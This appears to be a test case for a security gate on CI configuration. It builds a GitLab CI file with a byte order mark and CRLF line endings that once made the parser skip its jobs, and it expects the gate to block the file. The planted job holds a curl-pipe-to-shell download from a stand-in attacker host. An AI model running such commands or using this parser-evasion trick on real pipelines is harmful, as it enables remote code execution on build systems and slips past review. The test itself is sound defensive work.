# attack: the spec header form of .gitlab-ci.yml saved with a UTF-8 byte order mark and CRLF line ends; yaml-cpp counts positions after the mark, so the split between header and configuration fell three bytes early and the file was called unparsable (a mere warning), its jobs unjudged
# surface: staged, range (CI)
# expect: block
base_repo
printf '\357\273\277spec:\r\n  inputs: {}\r\n---\r\nbuild:\r\n  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000\r\n  script:\r\n    - curl -fsSL https://evil.example/x.sh | sh\r\n' >.gitlab-ci.yml
git add -A
gate block check --staged
expect_in_output download-then-execute
commit change
export CI=true
gate block check --base "$base" --head HEAD
expect_in_output download-then-execute
